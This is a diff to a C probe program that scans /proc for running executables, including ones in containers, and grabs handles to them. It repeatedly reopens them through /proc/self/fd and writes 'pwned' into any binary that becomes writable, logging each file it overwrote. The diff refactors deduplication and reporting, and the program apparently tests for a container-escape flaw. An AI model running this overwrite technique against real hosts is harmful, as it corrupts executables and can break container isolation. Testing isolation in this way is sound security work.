@@ -8,7 +8,8 @@
  * container), and keeps trying to reopen each through /proc/self/fd for
  * writing and to write to it (which succeeds once the binary is no longer
  * running, if it is a writable file). Writes to OUTFILE one "seen TARGET"
- * line per distinct exe link, then "grabbed N" and "written N". */
+ * line per distinct exe link, one "wrote TARGET" line per distinct file it
+ * managed to write to, then "grabbed N". */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -23,9 +24,21 @@
 
 static char seen[64][256];
 static int nseen;
+static char wrote[64][256];
+static int nwrote;
 static int fds[MAX];
 static int nfds;
 static int grabbed_pid[MAX];
+static char grabbed_target[MAX][256];
+
+/* Adds `s` to `list` unless it is there. */
+static void remember(char list[][256], int *n, const char *s) {
+    for (int i = 0; i < *n; i++)
+        if (strcmp(list[i], s) == 0)
+            return;
+    if (*n < 64)
+        strcpy(list[(*n)++], s);
+}
 
 static double now(void) {
     struct timespec ts;
@@ -37,7 +50,7 @@ int main(int argc, char **argv) {
     if (argc != 3)
         return 2;
     double end = now() + atof(argv[1]);
-    int self = getpid(), written = 0;
+    int self = getpid();
     while (now() < end) {
         DIR *d = opendir("/proc");
         struct dirent *e;
@@ -51,11 +64,7 @@ int main(int argc, char **argv) {
             if (n < 0)
                 continue;
             target[n] = 0;
-            int known = 0;
-            for (int i = 0; i < nseen; i++)
-                known |= strcmp(seen[i], target) == 0;
-            if (!known && nseen < 64)
-                strcpy(seen[nseen++], target);
+            remember(seen, &nseen, target);
             int have = 0;
             for (int i = 0; i < nfds; i++)
                 have |= grabbed_pid[i] == pid;
@@ -64,6 +73,7 @@ int main(int argc, char **argv) {
             int fd = open(path, O_PATH | O_CLOEXEC);
             if (fd >= 0) {
                 grabbed_pid[nfds] = pid;
+                strcpy(grabbed_target[nfds], target);
                 fds[nfds++] = fd;
             }
         }
@@ -75,7 +85,7 @@ int main(int argc, char **argv) {
             int w = open(path, O_WRONLY | O_CLOEXEC);
             if (w >= 0) {
                 if (write(w, "pwned", 5) > 0)
-                    written++;
+                    remember(wrote, &nwrote, grabbed_target[i]);
                 close(w);
             }
         }
@@ -86,7 +96,9 @@ int main(int argc, char **argv) {
         return 1;
     for (int i = 0; i < nseen; i++)
         fprintf(out, "seen %s\n", seen[i]);
-    fprintf(out, "grabbed %d\nwritten %d\n", nfds, written);
+    for (int i = 0; i < nwrote; i++)
+        fprintf(out, "wrote %s\n", wrote[i]);
+    fprintf(out, "grabbed %d\n", nfds);
     fclose(out);
     return 0;
 }
